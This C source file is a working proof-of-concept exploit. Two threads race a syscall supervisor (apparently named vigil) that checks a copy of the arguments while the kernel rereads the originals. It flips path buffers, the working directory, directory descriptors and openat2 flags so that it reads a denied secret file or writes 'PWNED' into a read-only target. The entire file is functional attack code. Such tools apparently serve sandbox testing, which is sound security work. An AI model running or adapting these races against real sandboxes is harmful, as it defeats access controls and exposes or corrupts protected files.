/* race_open_flip.c: a two-thread attack on a supervisor that decides on a
 * copy of the arguments and then lets the kernel read them again.
 *
 *   race_open_flip path DIR SECONDS
 *       one thread flips the path buffer between DIR/decoyABC (allowed)
 *       and DIR/secret/x (denied) while the other opens the buffer for
 *       reading; whatever is read from the secret is printed.  (Paths
 *       built here: a file named on vigil's command line may be read
 *       whatever the policy says.)
 *   race_open_flip cwd DIR SECONDS
 *       one thread moves the (shared) working directory between DIR and
 *       DIR/secret while the other opens "x" relative to it: DIR/x is a
 *       decoy, DIR/secret/x the denied file.
 *   race_open_flip dirfd DIR SECONDS
 *       one thread dup2()s descriptor FLIP_FD between DIR and DIR/secret
 *       while the other opens "x" relative to it (openat).
 *   race_open_flip how TARGET SECONDS
 *       openat2 on TARGET (may be read, not written) while the other
 *       thread flips open_how.flags between O_RDONLY and
 *       O_WRONLY|O_TRUNC; an fd that was opened for writing writes
 *       "PWNED" into TARGET.
 * Prints "tries N won M" at the end. */
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static char path[4096];
static char decoy[4096], secret[4096];
static struct open_how how;
static atomic_int stop;
static int dirfd = AT_FDCWD;      /* what try_path opens relative to */
static int dir_fds[2];            /* dirfd mode: DIR, DIR/secret */
#define FLIP_FD 100

static void *flip_path(void *arg)
{
    (void)arg;
    size_t n = strlen(decoy) + 1;
    while (!atomic_load(&stop)) {
        memcpy(path, secret, n);
        memcpy(path, decoy, n);
    }
    return NULL;
}

static void *flip_cwd(void *arg)
{
    (void)arg;
    while (!atomic_load(&stop))
        if (chdir(secret) < 0 || chdir(decoy) < 0)
            break;
    return NULL;
}

static void *flip_dirfd(void *arg)
{
    (void)arg;
    while (!atomic_load(&stop))
        if (dup2(dir_fds[1], FLIP_FD) < 0 || dup2(dir_fds[0], FLIP_FD) < 0)
            break;
    return NULL;
}

static void *flip_how(void *arg)
{
    (void)arg;
    while (!atomic_load(&stop)) {
        *(volatile __u64 *)&how.flags = O_WRONLY | O_TRUNC;
        *(volatile __u64 *)&how.flags = O_RDONLY;
    }
    return NULL;
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* One open of the flipping path; 1 when it reached the secret. */
static int try_path(void)
{
    int fd = openat(dirfd, path, O_RDONLY);
    if (fd < 0)
        return 0;
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0)
        return 0;
    buf[n] = 0;
    if (strstr(buf, "decoy"))
        return 0;
    printf("read: %s\n", buf);
    return 1;
}

/* One openat2 with the flipping flags; 1 when it got write access. */
static int try_how(const char *target)
{
    int fd = (int)syscall(SYS_openat2, AT_FDCWD, target, &how, sizeof how);
    if (fd < 0)
        return 0;
    int won = write(fd, "PWNED\n", 6) == 6;
    close(fd);
    return won;
}

int main(int argc, char **argv)
{
    if (argc < 4 || strlen(argv[2]) > 4000) {
        fprintf(stderr, "usage: see the source\n");
        return 2;
    }
    bool by_path = !strcmp(argv[1], "path"), by_cwd = !strcmp(argv[1], "cwd");
    bool by_dirfd = !strcmp(argv[1], "dirfd");
    double seconds = atof(argv[3]);
    pthread_t th;
    if (by_path) {
        snprintf(decoy, sizeof decoy, "%s/decoyABC", argv[2]);
        snprintf(secret, sizeof secret, "%s/secret/x", argv[2]);
        memcpy(path, decoy, strlen(decoy) + 1);
    } else if (by_cwd) {
        snprintf(decoy, sizeof decoy, "%s", argv[2]);
        snprintf(secret, sizeof secret, "%s/secret", argv[2]);
        memcpy(path, "x", 2);
    } else if (by_dirfd) {
        snprintf(secret, sizeof secret, "%s/secret", argv[2]);
        dir_fds[0] = open(argv[2], O_RDONLY | O_DIRECTORY);
        dir_fds[1] = open(secret, O_RDONLY | O_DIRECTORY);
        if (dir_fds[0] < 0 || dir_fds[1] < 0 || dup2(dir_fds[0], FLIP_FD) < 0) {
            perror("open the directories");
            return 2;
        }
        dirfd = FLIP_FD;
        memcpy(path, "x", 2);
    }
    how.flags = O_RDONLY;
    void *(*flip)(void *) = by_path    ? flip_path
                            : by_cwd   ? flip_cwd
                            : by_dirfd ? flip_dirfd
                                       : flip_how;
    if (pthread_create(&th, NULL, flip, NULL) != 0)
        return 2;
    long tries = 0, won = 0;
    double end = now() + seconds;
    while (now() < end) {
        won += by_path || by_cwd || by_dirfd ? try_path() : try_how(argv[2]);
        tries++;
    }
    atomic_store(&stop, 1);
    pthread_join(th, NULL);
    printf("tries %ld won %ld\n", tries, won);
    return 0;
}
